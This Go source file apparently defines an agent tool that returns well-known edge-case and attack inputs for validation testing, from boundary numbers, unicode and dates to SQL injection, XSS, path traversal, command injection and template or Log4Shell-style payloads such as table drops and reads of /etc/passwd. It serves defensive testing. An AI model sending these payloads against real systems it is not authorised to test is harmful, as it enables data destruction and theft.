package data

import (
	"context"
	"math"
	"slices"
	"strings"

	"github.com/barrhawk/barrhawk/internal/schema"
	"github.com/barrhawk/barrhawk/internal/tool"
)

// edgeCase is one test input and why it is interesting.
type edgeCase struct {
	Value       any    `json:"value"`
	Description string `json:"description"`
	// Length is the length in characters of long strings, so a caller need
	// not count them.
	Length int `json:"length,omitempty"`
}

// edgeCategories lists the categories in the order they are documented and
// grouped under "all".
var edgeCategories = []string{"sql_injection", "xss", "boundary_numbers", "unicode", "empty_values", "long_strings",
	"special_chars", "path_traversal", "command_injection", "format_strings", "dates"}

func e(v any, desc string) edgeCase { return edgeCase{Value: v, Description: desc} }

func long(s string, n int, desc string) edgeCase {
	return edgeCase{Value: strings.Repeat(s, n), Description: desc, Length: n * len([]rune(s))}
}

var edgeCases = map[string][]edgeCase{
	"sql_injection": {
		e(`' OR '1'='1`, "classic tautology that turns a WHERE clause true"),
		e(`' OR '1'='1' --`, "tautology with the rest of the query commented out"),
		e(`' OR 1=1--`, "numeric tautology with trailing comment"),
		e(`" OR "1"="1`, "tautology for double-quoted string literals"),
		e(`admin'--`, "log in as admin by commenting out the password check"),
		e(`'; DROP TABLE users; --`, "stacked query that drops a table"),
		e(`1; DROP TABLE users`, "stacked query in a numeric context"),
		e(`' UNION SELECT NULL, NULL --`, "UNION probe for the column count"),
		e(`' UNION SELECT username, password FROM users --`, "UNION-based data extraction"),
		e(`1' AND SLEEP(5)--`, "time-based blind injection (MySQL)"),
		e(`'; WAITFOR DELAY '0:0:5'--`, "time-based blind injection (SQL Server)"),
		e(`1' AND 1=CONVERT(int, @@version)--`, "error-based injection leaking the server version"),
		e(`' AND 1=2 UNION SELECT table_name, NULL FROM information_schema.tables --`, "schema enumeration"),
		e(`%27%20OR%20%271%27%3D%271`, "URL-encoded tautology, for filters that decode late"),
	},
	"xss": {
		e(`<script>alert(1)</script>`, "basic script injection"),
		e(`<img src=x onerror=alert(1)>`, "event handler on a broken image"),
		e(`<svg onload=alert(1)>`, "SVG onload handler"),
		e(`"><script>alert(1)</script>`, "breaks out of a double-quoted attribute"),
		e(`'><img src=x onerror=alert(1)>`, "breaks out of a single-quoted attribute"),
		e(`javascript:alert(1)`, "javascript: URL for href or src attributes"),
		e(`<a href="javascript:alert(1)">click</a>`, "link with a javascript: URL"),
		e(`<iframe src="javascript:alert(1)"></iframe>`, "iframe with a javascript: URL"),
		e(`<body onload=alert(1)>`, "body onload handler"),
		e(`<details open ontoggle=alert(1)>`, "handler that fires without user interaction"),
		e(`<ScRiPt>alert(1)</sCrIpT>`, "mixed case to evade naive filters"),
		e(`<scr<script>ipt>alert(1)</scr</script>ipt>`, "nested tags that survive one pass of tag stripping"),
		e(`&lt;script&gt;alert(1)&lt;/script&gt;`, "HTML-encoded script, dangerous if decoded twice"),
		e(`</textarea><script>alert(1)</script>`, "breaks out of a textarea"),
		e(`{{constructor.constructor('alert(1)')()}}`, "AngularJS client-side template injection"),
	},
	"boundary_numbers": {
		e(0, "zero"),
		e(math.Copysign(0, -1), "negative zero (-0)"),
		e(1, "one"),
		e(-1, "minus one"),
		e(127, "int8 maximum"),
		e(128, "int8 maximum + 1"),
		e(-128, "int8 minimum"),
		e(255, "uint8 maximum"),
		e(256, "uint8 maximum + 1"),
		e(32767, "int16 maximum"),
		e(-32768, "int16 minimum"),
		e(65535, "uint16 maximum"),
		e(65536, "uint16 maximum + 1"),
		e(2147483647, "int32 maximum"),
		e(2147483648, "int32 maximum + 1 (overflows int32)"),
		e(-2147483648, "int32 minimum"),
		e(-2147483649, "int32 minimum - 1 (overflows int32)"),
		e(4294967295, "uint32 maximum"),
		e(4294967296, "uint32 maximum + 1"),
		e(int64(9007199254740991), "largest integer a float64 (JavaScript Number) holds exactly, 2^53-1"),
		e(int64(9007199254740992), "2^53: first integer where float64 loses precision"),
		e(int64(-9007199254740991), "smallest safe JavaScript integer"),
		e(int64(math.MaxInt64), "int64 maximum (not exact in JavaScript)"),
		e(int64(math.MinInt64), "int64 minimum"),
		e(uint64(math.MaxUint64), "uint64 maximum"),
		e(math.MaxFloat64, "largest float64"),
		e(math.SmallestNonzeroFloat64, "smallest positive float64 (denormal)"),
		e(2.2250738585072014e-308, "smallest normal float64"),
		e(0.1+0.2, "0.1 + 0.2, the classic rounding surprise"),
		e(0.000001, "small decimal"),
		e(1e21, "where JavaScript switches to exponent notation"),
		e("NaN", "not a number, as a string (JSON has no NaN)"),
		e("Infinity", "positive infinity, as a string"),
		e("-Infinity", "negative infinity, as a string"),
		e("1e309", "overflows float64 to Infinity when parsed"),
		e("-0", "negative zero as a string"),
		e("0x7FFFFFFF", "hexadecimal int32 maximum as a string"),
		e("1,000", "number with a thousands separator"),
		e("1.5e3", "exponent notation as a string"),
		e("  42  ", "number with surrounding spaces"),
	},
	"unicode": {
		e("\u200d", "zero-width joiner (U+200D)"),
		e("\u200b", "zero-width space (U+200B)"),
		e("\u200c", "zero-width non-joiner (U+200C)"),
		e("\ufeff", "byte order mark / zero-width no-break space (U+FEFF)"),
		e("\u202egnp.exe", "right-to-left override (U+202E): displays as exe.png"),
		e("\u2066admin\u2069", "left-to-right isolate around text (U+2066/U+2069)"),
		e("e\u0301", "e + combining acute accent: looks like é but is two code points"),
		e("\u00e9", "precomposed é: equal to the previous one only after NFC normalization"),
		e("Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo", "Zalgo text: many stacked combining marks"),
		e("😀", "emoji outside the Basic Multilingual Plane (two UTF-16 code units)"),
		e("👨‍👩‍👧‍👦", "family emoji: 7 code points joined by ZWJ, one visible glyph"),
		e("🇺🇸", "flag: two regional indicator symbols"),
		e("👍🏽", "emoji with a skin tone modifier"),
		e("日本語テキスト", "CJK text"),
		e("مرحبا بالعالم", "Arabic, right-to-left"),
		e("שלום עולם", "Hebrew, right-to-left"),
		e("नमस्ते दुनिया", "Devanagari with combining vowel signs"),
		e("𝕳𝖊𝖑𝖑𝖔", "mathematical alphanumerics outside the BMP"),
		e("İı", "Turkish dotted capital I and dotless i: case mapping traps"),
		e("ß", "German sharp s: upper-cases to SS"),
		e("ΣΑΣ", "Greek capital sigma: lower-cases to σας with a final sigma"),
		e("Ｔｅｓｔ", "full-width Latin letters"),
		e("аdmin", "homoglyph: Cyrillic а (U+0430) followed by Latin dmin"),
		e("line\u2028separator", "line separator (U+2028): breaks some JavaScript and JSON-P"),
		e("a\u00a0b", "no-break space (U+00A0)"),
		e("\ufffd", "replacement character (U+FFFD)"),
		e("\U0010ffff", "highest code point (U+10FFFF, noncharacter)"),
	},
	"empty_values": {
		e("", "empty string"),
		e(" ", "single space"),
		e("   ", "only spaces"),
		e("\t", "tab"),
		e("\n", "newline"),
		e("\r\n", "CRLF"),
		e("\u00a0", "only a no-break space"),
		e("\u200b", "only a zero-width space: looks empty, is not"),
		e(nil, "JSON null"),
		e("null", "the string null"),
		e("NULL", "the string NULL (SQL)"),
		e("undefined", "the string undefined (JavaScript)"),
		e("None", "the string None (Python)"),
		e("nil", "the string nil (Go, Ruby)"),
		e("0", "the string 0"),
		e("false", "the string false"),
		e("[]", "the string []"),
		e("{}", "the string {}"),
		e([]any{}, "empty JSON array"),
		e(map[string]any{}, "empty JSON object"),
		e(0, "the number 0"),
		e(false, "the boolean false"),
	},
	"long_strings": {
		long("a", 255, "255 characters: the classic VARCHAR(255) limit"),
		long("a", 256, "256 characters: one past VARCHAR(255)"),
		long("a", 1024, "1 KiB of characters"),
		long("a", 4096, "4 KiB of characters, a common buffer and cookie size"),
		long("a", 65536, "64 KiB of characters, past 16-bit lengths and MySQL TEXT"),
		long("é", 256, "256 two-byte characters: 256 characters but 512 bytes in UTF-8"),
		long("😀", 128, "128 four-byte emoji: 128 code points, 256 UTF-16 units, 512 bytes"),
		long("lorem ", 200, "1200 characters of words separated by spaces, for wrapping and truncation"),
		long("a", 10000, "10000 characters without a space: breaks layouts that wrap only at spaces"),
	},
	"special_chars": {
		e("!@#$%^&*()_+-=[]{}|;':\",./<>?`~", "every ASCII punctuation character"),
		e("'", "single quote"),
		e("\"", "double quote"),
		e("`", "backtick"),
		e("\\", "backslash"),
		e("<>&", "HTML metacharacters"),
		e("%", "percent: SQL LIKE wildcard and URL escape"),
		e("_", "underscore: SQL LIKE single-character wildcard"),
		e("\x00", "NUL byte"),
		e("%00", "URL-encoded NUL byte"),
		e("\x7f", "DEL control character"),
		e("\x1b[31mred\x1b[0m", "ANSI escape sequence, for logs and terminals"),
		e("\b\f\v", "backspace, form feed and vertical tab"),
		e("foo\r\nSet-Cookie: injected=1", "CRLF injection into HTTP headers"),
		e("=1+1", "spreadsheet formula (CSV injection)"),
		e("@SUM(1+1)", "spreadsheet formula starting with @"),
		e("; -- /* */ #", "comment markers of several languages"),
		e("C:\\Program Files\\", "Windows path with a trailing backslash"),
		e("name with spaces", "spaces inside an identifier"),
	},
	"path_traversal": {
		e("../../../etc/passwd", "relative traversal to a Unix system file"),
		e("..\\..\\..\\windows\\win.ini", "backslash traversal on Windows"),
		e("%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "URL-encoded traversal"),
		e("..%2f..%2f..%2fetc%2fpasswd", "traversal with encoded slashes only"),
		e("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double URL-encoded traversal"),
		e("....//....//....//etc/passwd", "survives a single pass of removing ../"),
		e("..%c0%af..%c0%afetc%c0%afpasswd", "overlong UTF-8 slash"),
		e("../../../etc/passwd%00.png", "NUL byte to cut off an enforced extension"),
		e("/etc/passwd", "absolute Unix path"),
		e("C:\\Windows\\System32\\drivers\\etc\\hosts", "absolute Windows path"),
		e("\\\\localhost\\c$\\windows\\win.ini", "UNC path"),
		e("file:///etc/passwd", "file: URL"),
		e("/proc/self/environ", "process environment on Linux"),
	},
	"command_injection": {
		e("; id", "command separator"),
		e("| id", "pipe into another command"),
		e("&& id", "run when the first command succeeds"),
		e("|| id", "run when the first command fails"),
		e("`id`", "backtick command substitution"),
		e("$(id)", "POSIX command substitution"),
		e("; cat /etc/passwd", "read a system file"),
		e("\nid", "newline as a command separator"),
		e("; sleep 5", "time-based blind injection"),
		e("$(sleep 5)", "time-based blind injection by substitution"),
		e("& ping -n 5 127.0.0.1 &", "time-based blind injection on Windows"),
		e("; rm -f /tmp/barrhawk-canary", "destructive command shape aimed at a harmless canary file"),
		e("${IFS}id", "$IFS instead of spaces to evade filters"),
		e("--help", "argument injection: a value that starts with a dash"),
	},
	"format_strings": {
		e("%s%s%s%s%s", "C format string reading the stack"),
		e("%x%x%x%x", "C format string leaking memory as hex"),
		e("%n", "C format string write"),
		e("%p", "pointer leak"),
		e("%d", "integer conversion"),
		e("%1$s", "positional argument"),
		e("%(name)s", "Python %-formatting"),
		e("{0}", "C#/Python str.format placeholder"),
		e("{}", "empty format placeholder"),
		e("{{7*7}}", "server-side template injection (Jinja2, Twig): renders 49 if vulnerable"),
		e("${7*7}", "expression language / template literal injection"),
		e("#{7*7}", "Ruby and Spring EL interpolation"),
		e("<%= 7*7 %>", "ERB template injection"),
		e("${jndi:ldap://example.com/a}", "Log4Shell (CVE-2021-44228) lookup shape"),
	},
	"dates": {
		e("1970-01-01T00:00:00Z", "Unix epoch"),
		e("1969-12-31T23:59:59Z", "one second before the epoch (negative timestamp)"),
		e("2038-01-19T03:14:07Z", "largest signed 32-bit Unix time"),
		e("2038-01-19T03:14:08Z", "first instant after the 32-bit overflow"),
		e("1999-12-31T23:59:59Z", "last second before Y2K"),
		e("2000-02-29", "leap day in a year divisible by 400"),
		e("2024-02-29", "leap day"),
		e("1900-02-29", "invalid: 1900 was not a leap year"),
		e("2023-02-29", "invalid: not a leap year"),
		e("2023-04-31", "invalid: April has 30 days"),
		e("2023-13-01", "invalid month 13"),
		e("2023-00-10", "invalid month 0"),
		e("0001-01-01T00:00:00Z", "smallest four-digit year"),
		e("9999-12-31T23:59:59Z", "largest four-digit year"),
		e("2016-12-31T23:59:60Z", "leap second"),
		e("2024-03-10T02:30:00-05:00", "does not exist in America/New_York (spring-forward gap)"),
		e("2024-11-03T01:30:00", "ambiguous in America/New_York (fall-back overlap)"),
		e("2024-12-31T23:59:59+14:00", "largest UTC offset in use (Kiribati)"),
		e("2024-12-31T23:59:59-12:00", "smallest UTC offset"),
		e("2024-06-15T12:00:00+05:45", "offset with 45 minutes (Nepal)"),
		e("2024-01-01T00:00:00.123456789Z", "nanosecond precision"),
		e("02/03/2024", "ambiguous: 3 February or 2 March"),
		e("2024-W01-1", "ISO 8601 week date"),
		e(1700000000, "Unix time in seconds"),
		e(int64(1700000000000), "Unix time in milliseconds"),
		e("Tue, 14 Nov 2023 22:13:20 GMT", "RFC 1123 HTTP date"),
	},
}

func dataEdgeCases() tool.Tool {
	type args struct {
		Category string `json:"category"`
		Limit    int    `json:"limit"`
	}
	return tool.Tool{
		Def: tool.Def{
			Name: "data_edge_cases",
			Description: "Return well-known edge-case and attack inputs for testing validation and escaping: " +
				strings.Join(edgeCategories, ", ") + ", or all. Each value comes with a description; long strings also " +
				"carry their length in characters (the 64 KiB one is included in full). Values are strings unless the " +
				"case needs another JSON type (numbers, null, empty array or object); NaN and Infinity are strings " +
				"because JSON has no such numbers. Returns {category, count, values:[{value, description, length?}]}; " +
				"for all, {category:\"all\", count, groups:{category: [...]}}.",
			Phrases:  []string{"sql injection payloads", "xss strings", "fuzz inputs", "malicious input", "naughty strings", "boundary values", "path traversal strings", "security test payloads", "unicode torture"},
			Group:    Group,
			Category: tool.CategoryUtility,
			Input: schema.Object(
				schema.String("category", "Category of edge cases, or all for every category grouped").EnumStrings(append(slices.Clone(edgeCategories), "all")...).Required(),
				schema.Integer("limit", "Maximum number of values per category; omit for all of them").Min(1),
			),
			RequiresWorker: true,
		},
		Run: tool.Typed(func(_ context.Context, in args, _ *tool.Call) (any, error) {
			if in.Limit < 0 {
				return nil, tool.Errorf(tool.CodeInvalidArgs, "argument \"limit\": expected at least 1, got %d", in.Limit)
			}
			take := func(c string) []edgeCase {
				v := edgeCases[c]
				if in.Limit > 0 && in.Limit < len(v) {
					v = v[:in.Limit]
				}
				return v
			}
			if in.Category == "all" {
				groups, n := map[string][]edgeCase{}, 0
				for _, c := range edgeCategories {
					groups[c] = take(c)
					n += len(groups[c])
				}
				return map[string]any{"category": "all", "count": n, "groups": groups}, nil
			}
			if _, ok := edgeCases[in.Category]; !ok {
				return nil, tool.Errorf(tool.CodeInvalidArgs, "argument \"category\": unknown category %q; expected one of %s or all",
					in.Category, strings.Join(edgeCategories, ", "))
			}
			v := take(in.Category)
			return map[string]any{"category": in.Category, "count": len(v), "values": v}, nil
		}),
	}
}
